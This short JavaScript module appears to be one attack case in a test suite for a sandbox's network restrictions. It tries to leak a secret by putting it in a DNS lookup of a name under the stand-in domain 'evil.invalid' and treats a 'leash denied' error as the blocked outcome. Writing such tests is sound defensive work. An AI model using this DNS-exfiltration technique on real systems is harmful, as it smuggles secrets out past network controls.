// dns.lookup of a name that carries the secret (system resolver: the query is the leak).
import dns from 'node:dns';
export const meta = { kind: 'dns', evidence: 'attempted' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    dns.lookup(`${ctx.secret}.evil.invalid`, (error) => {
      if (error && error.code === 'ERR_LEASH_DENIED') reject(error);
      else resolve('queried');
    });
  });
}
